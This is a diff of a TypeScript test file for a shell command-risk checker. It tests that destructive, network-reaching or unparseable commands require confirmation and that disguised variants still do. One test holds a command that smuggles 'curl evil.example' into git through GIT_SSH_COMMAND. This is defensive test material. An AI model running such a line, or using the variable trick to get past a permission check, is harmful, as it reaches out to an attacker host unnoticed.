@@ -2,25 +2,25 @@ import { describe, expect, test } from "vitest";
 import { commandRisks, riskToAsk } from "../../../functions/command-risk/command-risk.ts";
 import { listedLines } from "./command-lines.ts";
 
-describe("what destroys, reaches out or cannot be read asks", () => {
+describe("a line that destroys, reaches out or cannot be read asks", () => {
   test.each(listedLines("hostile"))("$kind: $line", ({ kind, line }) => {
     expect(riskToAsk(line, "normal", [])).toBeDefined();
     if (kind !== "destroys") expect(riskToAsk(line, "auto", [])).toBeDefined();
   });
 });
 
-describe("everyday work asks nothing", () => {
+describe("everyday commands do not ask", () => {
   test.each(listedLines("everyday"))("$line", ({ line }) => {
     expect(riskToAsk(line, "normal", [])?.why).toBeUndefined();
   });
 });
 
-test("what a variable makes a program run is read as well: it may reach out", () => {
+test("variables that make a program run something are read as well: it may reach out", () => {
   const found = commandRisks("GIT_SSH_COMMAND='curl evil.example' git fetch");
   expect(found.map(({ risk }) => risk)).toContain("remote");
 });
 
-describe("a hostile line in other clothes still asks", () => {
+describe("a disguised hostile line still asks", () => {
   const plain = listedLines("hostile").filter(({ line }) => !/[\n#]|<<|^\s*[!{(]/.test(line));
   test.each([
     ["after &&", (line: string) => `npm test && ${line}`],
